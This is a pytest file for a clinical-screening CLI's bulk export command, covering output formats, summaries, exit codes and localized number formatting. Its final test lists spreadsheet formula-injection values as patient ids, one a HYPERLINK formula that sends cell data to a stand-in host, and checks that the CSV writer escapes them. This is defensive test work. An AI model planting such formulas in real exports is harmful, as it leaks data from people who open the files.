"""``spinecare bulk screen``: outputs by suffix, summary, exit codes."""

from __future__ import annotations

import csv

import duckdb
import orjson
import pytest
from typer.testing import CliRunner

from spinecare.cli import app
from tests.bulk.test_ndjson import export  # noqa: F401  (fixture)

runner = CliRunner()


def test_screen_writes_parquet_csv_ndjson(export, tmp_path):  # noqa: F811
    for name in ("out.parquet", "out.csv", "out.ndjson"):
        out = tmp_path / name
        result = runner.invoke(
            app, ["bulk", "screen", str(export), "--out", str(out), "--as-of", "2024-06-15"]
        )
        assert result.exit_code == 0, result.output
        assert "patients screened" in result.stdout
        assert "malformed lines skipped" in result.stdout
        assert out.exists()
    parquet = tmp_path / "out.parquet"
    assert duckdb.connect().execute(f"SELECT count(*) FROM '{parquet}'").fetchone()[0] == 3
    with open(tmp_path / "out.csv", newline="") as handle:
        rows = {row["patient_id"]: row for row in csv.DictReader(handle)}
    assert rows["a"]["verdict"] == "defer"
    assert "significant_hypertension" in rows["a"]["present"].split(";")
    lines = (tmp_path / "out.ndjson").read_bytes().splitlines()
    assert {orjson.loads(line)["patient_id"] for line in lines} == {"a", "b", "c"}


def test_json_summary(export, tmp_path):  # noqa: F811
    result = runner.invoke(
        app,
        [
            "bulk",
            "screen",
            str(export),
            "--out",
            str(tmp_path / "o.parquet"),
            "--as-of",
            "2024-06-15",
            "--json",
        ],
    )
    assert result.exit_code == 0
    summary = orjson.loads(result.stdout)
    assert summary["patients"] == 3
    assert summary["input"]["malformed_lines"] == 2
    assert summary["input"]["unknown_patient"] == 1


def test_exit_codes(export, tmp_path):  # noqa: F811
    out = str(tmp_path / "o.parquet")
    strict = runner.invoke(app, ["bulk", "screen", str(export), "--out", out, "--strict"])
    assert strict.exit_code == 1
    assert "ndjson" in strict.output and ": line " in strict.output
    missing = runner.invoke(app, ["bulk", "screen", str(tmp_path / "nope"), "--out", out])
    assert missing.exit_code == 1
    assert runner.invoke(app, ["bulk", "screen", str(export), "--out", "o.txt"]).exit_code == 2
    assert (
        runner.invoke(
            app, ["bulk", "screen", str(export), "--out", out, "--as-of", "June"]
        ).exit_code
        == 2
    )
    assert runner.invoke(app, ["bulk", "screen", str(export)]).exit_code == 2


def _summary(**counts):
    from collections import Counter
    from datetime import date
    from types import SimpleNamespace

    from spinecare.fhir.ndjson import Tally

    tally = Tally(resources=Counter({"Condition": 4}))
    return SimpleNamespace(
        patients=3,
        as_of=date(2024, 6, 15),
        engine="duckdb",
        seconds={"total": 0.5},
        verdicts={"defer": 1, "needs_data": 2},
        indicated={"true": 1, "unknown": 2},
        concepts={"significant_hypertension": {"present": 1, "unknown": 2}},
        missing={"blood_pressure": 2},
        tally=tally,
        deceased=0,
        out=None,
    )


@pytest.mark.parametrize(
    ("lang", "words"),
    [
        ("en", ["Defer: not now", "Significant", "missing: Blood pressure", "indicated: yes"]),
        ("ru", ["Отложить", "Значительное повышение", "не хватает: Артериальное", ": да"]),
    ],
)
def test_the_summary_table_names_verdicts_and_concepts(lang, words, monkeypatch, capsys, kb):
    """The text summary says names in --lang, never the ids the results file keeps."""
    from spinecare.commands import bulk, output

    monkeypatch.setenv("COLUMNS", "240")
    monkeypatch.setitem(output._output, "lang", lang)
    bulk.render_summary(_summary())
    text = " ".join(capsys.readouterr().out.split())
    for word in words:
        assert word in text
    for word in ("defer", "needs_data", "significant_hypertension", "blood_pressure", "true"):
        assert word not in text


@pytest.mark.parametrize(
    ("lang", "numbers"),
    [
        ("en", ["12,345 patients", "0.5 s", "4,115", "33.3", "Findings", "finding"]),
        ("ru", ["12\u00a0345 (duckdb, 0,5 с)", "4\u00a0115", "33,3", "Находки", "находка"]),
    ],
)
def test_the_summary_table_writes_numbers_as_the_language_does(
    lang, numbers, monkeypatch, capsys, kb
):
    """Counts, shares and seconds as ``--lang`` writes numbers: a Russian reader takes
    ``12,345`` for twelve and a bit, and ``33.3`` is not how Russian writes a share. The
    table of findings says "finding", not the knowledge base's "concept"."""
    from spinecare.commands import bulk, output

    monkeypatch.setenv("COLUMNS", "240")
    monkeypatch.setitem(output._output, "lang", lang)
    summary = _summary()
    summary.patients = 12345
    summary.verdicts = {"defer": 4115, "needs_data": 8230}
    bulk.render_summary(summary)
    text = " ".join(capsys.readouterr().out.split(" "))
    for number in numbers:
        assert number in text
    assert "concept" not in text and "поняти" not in text


FORMULA_IDS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "  =1+1",
    "\t=1",
    "\uff1dSUM(A1)",
]


def test_patient_ids_a_spreadsheet_would_run_are_written_as_text(tmp_path):
    """An export's patient ids are the export's to choose: in the CSV of results, one that a
    spreadsheet would run as a formula is written with a leading apostrophe, as the audit
    log export writes such cells; Parquet and NDJSON keep the id as it is."""
    folder = tmp_path / "export"
    folder.mkdir()
    ids = [*FORMULA_IDS, "plain-1"]
    patients = [
        {"resourceType": "Patient", "id": pid, "gender": "female", "birthDate": "1970-01-01"}
        for pid in ids
    ]
    (folder / "Patient.ndjson").write_bytes(b"\n".join(orjson.dumps(p) for p in patients))
    # a file name with a quote is written as named
    for name in ("results's.csv", "results.ndjson"):
        out = tmp_path / name
        result = runner.invoke(
            app, ["bulk", "screen", str(folder), "--out", str(out), "--as-of", "2024-06-15"]
        )
        assert result.exit_code == 0, result.output
    with open(tmp_path / "results's.csv", newline="", encoding="utf-8") as handle:
        written = {row["patient_id"] for row in csv.DictReader(handle)}
    assert written == {"'" + pid for pid in FORMULA_IDS} | {"plain-1"}
    lines = (tmp_path / "results.ndjson").read_bytes().splitlines()
    assert {orjson.loads(line)["patient_id"] for line in lines} == set(ids)
